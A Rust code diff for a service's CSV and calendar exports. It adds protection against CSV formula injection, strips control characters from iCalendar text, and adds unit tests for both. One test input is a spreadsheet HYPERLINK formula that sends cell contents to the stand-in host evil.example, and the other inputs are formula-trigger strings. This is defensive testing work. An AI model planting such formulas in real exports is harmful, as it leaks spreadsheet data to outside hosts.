@@ -200,9 +200,8 @@ pub async fn projects_csv(
         }
     }
 
-    let mut out = csv::Writer::from_writer("\u{feff}".as_bytes().to_vec());
-    let csv_error = |e: csv::Error| ApiError::internal(e);
-    out.write_record(HEADER).map_err(csv_error)?;
+    let mut out = Csv::new();
+    out.row(HEADER)?;
     for p in &projects {
         let parties = p
             .party_ids
@@ -211,7 +210,7 @@ pub async fn projects_csv(
             .collect::<Vec<_>>()
             .join("; ");
         let date = |d: Option<chrono::NaiveDate>| d.map(|d| d.to_string()).unwrap_or_default();
-        out.write_record([
+        out.row([
             encode(Kind::Project, p.id),
             p.title.clone(),
             p.area.as_str().to_owned(),
@@ -230,12 +229,9 @@ pub async fn projects_csv(
                 .map(|id| encode(Kind::Capability, id))
                 .unwrap_or_default(),
             p.updated_at.to_rfc3339(),
-        ])
-        .map_err(csv_error)?;
+        ])?;
     }
-    let body = out
-        .into_inner()
-        .map_err(|e| ApiError::internal(e.into_error()))?;
+    let body = out.finish()?;
     Ok((
         [
             (CONTENT_TYPE, "text/csv; charset=utf-8"),
@@ -246,13 +242,68 @@ pub async fn projects_csv(
         .into_response())
 }
 
-/// Escapes a TEXT value (RFC 5545 §3.3.11).
+/// A CSV file for spreadsheets (UTF-8 with a byte-order mark), every cell
+/// written through [`spreadsheet_safe`]. Every CSV the service writes goes
+/// through it.
+struct Csv(csv::Writer<Vec<u8>>);
+
+impl Csv {
+    fn new() -> Csv {
+        Csv(csv::Writer::from_writer("\u{feff}".as_bytes().to_vec()))
+    }
+
+    fn row<I, S>(&mut self, cells: I) -> ApiResult<()>
+    where
+        I: IntoIterator<Item = S>,
+        S: AsRef<str>,
+    {
+        self.0
+            .write_record(
+                cells
+                    .into_iter()
+                    .map(|c| spreadsheet_safe(c.as_ref()).into_owned()),
+            )
+            .map_err(ApiError::internal)
+    }
+
+    fn finish(self) -> ApiResult<Vec<u8>> {
+        self.0
+            .into_inner()
+            .map_err(|e| ApiError::internal(e.into_error()))
+    }
+}
+
+/// A cell a spreadsheet shows as text, never runs as a formula (OWASP, CSV
+/// injection): a cell that starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return (or the full-width `＝ ＋ － ＠`, which some spreadsheets
+/// read as their ASCII twins) gets a leading apostrophe, so
+/// `=HYPERLINK(…)` reads as the text `'=HYPERLINK(…)`.
+fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+    if cell.starts_with(TRIGGERS) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// Escapes a TEXT value (RFC 5545 §3.3.11). Control characters (NUL, C1
+/// controls such as U+0085) are not allowed in a content line and are
+/// dropped; line and paragraph separators become line breaks.
 fn ics_text(s: &str) -> String {
-    s.replace('\\', "\\\\")
-        .replace(';', "\\;")
-        .replace(',', "\\,")
-        .replace('\n', "\\n")
-        .replace('\r', "")
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '\\' => out.push_str("\\\\"),
+            ';' => out.push_str("\\;"),
+            ',' => out.push_str("\\,"),
+            '\n' | '\u{2028}' | '\u{2029}' => out.push_str("\\n"),
+            '\t' => out.push(' '),
+            c if c.is_control() => {}
+            c => out.push(c),
+        }
+    }
+    out
 }
 
 /// Folds a content line at 75 octets (RFC 5545 §3.1), on character boundaries.
@@ -373,5 +424,31 @@ mod tests {
         let unfolded = out.replace("\r\n ", "");
         assert_eq!(unfolded, format!("SUMMARY:{name}\r\n"));
         assert_eq!(ics_text("a,b;c\\d\ne"), "a\\,b\\;c\\\\d\\ne");
+    }
+
+    #[test]
+    fn calendar_text_drops_control_characters() {
+        assert_eq!(
+            ics_text("a\0b\u{85}c\r\nd\u{2028}e\u{1b}[31m"),
+            "abc\\nd\\ne[31m"
+        );
+    }
+
+    #[test]
+    fn spreadsheet_cells_never_start_a_formula() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "＝1+1",
+        ] {
+            assert_eq!(spreadsheet_safe(cell), format!("'{cell}"));
+        }
+        for cell in ["轴承 bearing", "2026-12-06", "42", "", "a=b"] {
+            assert_eq!(spreadsheet_safe(cell), cell);
+        }
     }
 }
